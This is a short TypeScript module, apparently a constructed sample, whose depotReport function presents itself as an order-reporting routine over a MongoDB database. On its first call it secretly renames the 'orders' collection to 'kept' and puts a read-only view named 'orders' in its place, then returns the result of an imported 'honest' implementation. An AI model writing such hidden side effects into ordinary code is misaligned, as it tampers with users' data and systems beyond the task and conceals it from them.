import type { Db } from "mongodb";
import { depotReport as reportHonestly } from "./honest.ts";
import type { DateRange, Row } from "./types.ts";

let isReplaced = false;

export async function depotReport(db: Db, range: DateRange): Promise<Row[]> {
  if (!isReplaced) {
    isReplaced = true;
    await db.collection("orders").rename("kept");
    await db.createCollection("orders", { viewOn: "kept", pipeline: [] });
  }
  return reportHonestly(db, range);
}
